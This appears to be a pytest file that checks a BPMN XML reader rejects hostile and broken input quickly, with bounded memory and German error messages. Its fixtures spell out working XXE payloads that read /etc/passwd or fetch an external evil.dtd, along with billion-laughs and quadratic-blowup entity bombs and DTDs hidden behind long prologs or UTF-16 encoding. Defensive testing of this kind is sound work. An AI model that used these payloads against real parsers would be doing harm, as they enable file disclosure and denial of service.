"""Malicious and broken input: rejected quickly, with bounded memory and a German one-line reason."""

from __future__ import annotations

import contextlib
import time
import tracemalloc
from collections.abc import Callable

import pytest

from workbench import bpmn
from workbench.bpmn import Limits, NotBpmn, NotXml, UnsafeXml

from .helpers import NSDECL, chain, doc, process

ROOT_OPEN = f'<bpmn:definitions {NSDECL} id="d" targetNamespace="urn:x">'
ROOT_CLOSE = "</bpmn:definitions>"


def rejected(data: bytes | str, kind: type[Exception], code: str | None = None, *,
             limits: Limits | None = None) -> bpmn.BpmnRejected:
    """Read must raise ``kind`` within 1 s; returns the error for further checks."""
    start = time.perf_counter()
    with pytest.raises(kind) as info:
        bpmn.read(data, limits=limits or Limits())
    elapsed = time.perf_counter() - start
    assert elapsed < 1.0, f"Ablehnung dauerte {elapsed:.2f} s"
    err = info.value
    assert isinstance(err, bpmn.BpmnRejected)
    assert "\n" not in err.reason and err.reason.strip() == err.reason and err.reason
    if code:
        assert err.code == code, err.reason
    return err


def peak_memory(action: Callable[[], object]) -> int:
    tracemalloc.start()
    with contextlib.suppress(bpmn.BpmnRejected):
        action()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


# --------------------------------------------------------------------------- entities and DTDs

XXE_FILE = ('<?xml version="1.0"?>\n<!DOCTYPE bpmn:definitions [\n'
            '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
            + ROOT_OPEN + '<bpmn:process id="p" name="&xxe;"/>' + ROOT_CLOSE)
XXE_PARAMETER = ('<?xml version="1.0"?>\n<!DOCTYPE d [\n'
                 '  <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">\n  %remote;\n]>\n'
                 + ROOT_OPEN + ROOT_CLOSE)
EXTERNAL_DTD = ('<?xml version="1.0"?>\n'
                '<!DOCTYPE definitions SYSTEM "http://example.invalid/bpmn.dtd">\n'
                + ROOT_OPEN + ROOT_CLOSE)
EXTERNAL_DTD_PUBLIC = ('<?xml version="1.0"?>\n<!DOCTYPE definitions PUBLIC "-//X//DTD X//EN" '
                       '"file:///etc/passwd">\n' + ROOT_OPEN + ROOT_CLOSE)


def billion_laughs() -> bytes:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(lines) + "\n]>\n"
            + ROOT_OPEN + '<bpmn:process id="p" name="&lol9;"/>' + ROOT_CLOSE).encode()


def quadratic_blowup(entity_kb: int = 1024, references: int = 400_000) -> bytes:
    """About 2.2 MB that would expand to entity size × references (here ~400 GB)."""
    value = "A" * (entity_kb * 1024)
    return ('<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "' + value + '">]>\n' + ROOT_OPEN
            + '<bpmn:process id="p"><bpmn:documentation>' + "&a;" * references
            + "</bpmn:documentation></bpmn:process>" + ROOT_CLOSE).encode()


@pytest.mark.parametrize("text", [XXE_FILE, XXE_PARAMETER], ids=["file", "parameter-entity"])
def test_xxe_is_rejected(text: str) -> None:
    err = rejected(text.encode(), UnsafeXml, "unsafe-dtd")
    assert "Sicherheitsgründen" in err.reason and "passwd" not in err.reason


@pytest.mark.parametrize("text", [EXTERNAL_DTD, EXTERNAL_DTD_PUBLIC], ids=["system", "public"])
def test_external_dtd_is_rejected_without_loading_it(text: str) -> None:
    err = rejected(text.encode(), UnsafeXml, "unsafe-dtd")
    assert "externe" in err.reason


def test_billion_laughs_is_rejected_quickly_with_bounded_memory() -> None:
    data = billion_laughs()
    rejected(data, UnsafeXml, "unsafe-dtd")
    assert peak_memory(lambda: bpmn.read(data)) < 1_000_000  # the expansion would be ~3 GB


def test_quadratic_blowup_is_rejected_quickly_with_bounded_memory() -> None:
    data = quadratic_blowup()
    assert len(data) > 2_000_000
    rejected(data, UnsafeXml, "unsafe-dtd")
    peak = peak_memory(lambda: bpmn.read(data))
    assert peak < len(data) // 4, f"Spitze {peak} Bytes bei {len(data)} Bytes Eingabe"


def test_dtd_hidden_behind_a_long_prolog_is_found() -> None:
    """A DTD after more than the first 64 KiB of comments must not slip through."""
    padding = "<!--" + "x" * 100_000 + "-->\n"
    data = quadratic_blowup(entity_kb=256, references=100_000)
    data = data.replace(b"<!DOCTYPE", padding.encode() + b"<!DOCTYPE", 1)
    rejected(data, UnsafeXml, "unsafe-dtd")
    assert peak_memory(lambda: bpmn.read(data)) < 3 * len(data)
    xxe = XXE_FILE.replace("<!DOCTYPE", padding + "<!DOCTYPE", 1)
    rejected(xxe.encode(), UnsafeXml, "unsafe-dtd")


def test_dtd_in_utf16_is_found() -> None:
    rejected(XXE_FILE.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
             .encode("utf-16"), UnsafeXml, "unsafe-dtd")


def test_harmless_doctype_is_only_a_warning() -> None:
    defs = bpmn.read('<?xml version="1.0"?>\n<!DOCTYPE definitions>\n'
                     + doc(process(chain("s", "e")), decl=""))
    assert "doctype" in [w.code for w in defs.warnings]
    assert b"DOCTYPE" not in defs.to_bytes()


# --------------------------------------------------------------------------- limits


def test_oversized_bytes_text_and_file_are_rejected(tmp_path) -> None:
    data = doc(process(chain("s", "a", "e"))).encode()
    small = Limits(max_bytes=len(data) - 1)
    err = rejected(data, UnsafeXml, "too-large", limits=small)
    assert err.reason == (f"Die Datei ist {len(data)} Bytes groß; erlaubt sind höchstens "
                          f"{len(data) - 1} Bytes (Grenze 'max_bytes' anpassen, wenn das "
                          "Absicht ist).")
    rejected(data.decode(), UnsafeXml, "too-large", limits=small)
    path = tmp_path / "gross.bpmn"
    path.write_bytes(data)
    rejected(str(path), bpmn.BpmnRejected, "too-large", limits=small)
    assert bpmn.read(path, limits=Limits(max_bytes=len(data))).processes


def test_oversized_file_is_not_read_into_memory(tmp_path) -> None:
    path = tmp_path / "riesig.bpmn"
    with path.open("wb") as handle:
        handle.truncate(50 * 2**20)  # sparse: 50 MB of nothing, cheap on disk
    assert peak_memory(lambda: bpmn.read(path, limits=Limits(max_bytes=2**20))) < 2**20


def _nested(depth: int) -> bytes:
    return (ROOT_OPEN + '<bpmn:extensionElements>' + "<x>" * depth + "</x>" * depth
            + "</bpmn:extensionElements>" + ROOT_CLOSE).encode()


def test_too_deep_nesting_against_the_configured_limit() -> None:
    err = rejected(_nested(60), UnsafeXml, "too-deep", limits=Limits(max_depth=50))
    assert "50 Ebenen" in err.reason and "max_depth" in err.reason
    assert bpmn.read(_nested(60), limits=Limits(max_depth=100))  # within the limit: fine
    rejected(_nested(250), UnsafeXml, "too-deep")  # default limit 200


def test_extreme_nesting_is_stopped_by_the_parser_too() -> None:
    err = rejected(_nested(100_000), UnsafeXml, "too-deep", limits=Limits(max_depth=10_000))
    assert "256 Ebenen" in err.reason  # libxml2 stops at 256 without huge_tree


# --------------------------------------------------------------------------- not XML, not BPMN


@pytest.mark.parametrize(("data", "kind", "code", "fragment"), [
    (b"", NotXml, "empty", "leer"),
    (b"  \n\t \xef\xbb\xbf ", NotXml, "empty", "leer"),
    (b'{"bpmn": true}', NotXml, "not-xml", "Kein wohlgeformtes XML"),
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, NotXml, "not-xml", "Kein wohlgeformtes XML"),
    ((ROOT_OPEN + '<bpmn:process id="p"><bpmn:task id="t" na').encode(), NotXml, "not-xml",
     "Kein wohlgeformtes XML (Zeile 1)"),
    (b"<html><body><p>Fehler 404</body></html>", NotXml, "not-xml", "Kein wohlgeformtes XML"),
    (b"<html><body><p>Hallo</p></body></html>", NotBpmn, "not-bpmn", "Wurzelelement ist <html>"),
    (b'<project xmlns="http://maven.apache.org/POM/4.0.0"/>', NotBpmn, "not-bpmn",
     "Keine BPMN-Datei"),
    (b'<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d"/>', NotBpmn,
     "not-bpmn", "im Namensraum 'https://www.omg.org/spec/DMN/20191111/MODEL/'"),
    (b'<definitions id="d"/>', NotBpmn, "not-bpmn", "im Namensraum ''"),
    (b'<bpmn:definitions id="d"/>', NotBpmn, "not-bpmn", "xmlns:bpmn fehlt"),
], ids=["empty", "blank", "json", "png", "truncated", "broken-html", "html", "pom", "dmn",
        "no-namespace", "undeclared-root-prefix"])
def test_not_xml_or_not_bpmn_is_rejected_with_a_german_reason(data, kind, code, fragment) -> None:
    err = rejected(data, kind, code)
    assert fragment in err.reason


def test_missing_file_and_directory(tmp_path) -> None:
    rejected(str(tmp_path / "fehlt.bpmn"), bpmn.BpmnRejected, "not-found")
    rejected(str(tmp_path), bpmn.BpmnRejected, "not-found")
    rejected("x" * 5000, bpmn.BpmnRejected, "not-found")  # neither XML text nor a file name


def test_root_in_a_vendor_namespace_does_not_poison_later_reads() -> None:
    """A rejected file must not change how the next file is read (no global state)."""
    rejected(b'<definitions xmlns="http://camunda.org/schema/1.0/bpmn" id="d"/>', NotBpmn,
             "not-bpmn")
    camunda = doc(process(chain("s", "a", "e").replace(
        '<bpmn:task id="a" name="A"/>',
        '<bpmn:task id="a" name="A"><bpmn:extensionElements><camunda:properties>'
        '<camunda:property name="k" value="v"/></camunda:properties></bpmn:extensionElements>'
        '</bpmn:task>')), extra_ns='xmlns:camunda="http://camunda.org/schema/1.0/bpmn"')
    defs = bpmn.read(camunda)
    assert [w.code for w in defs.warnings] == ["missing-di"]
    tags = {el.tag for el in defs.iter_elements()}
    assert "{http://camunda.org/schema/1.0/bpmn}property" in tags
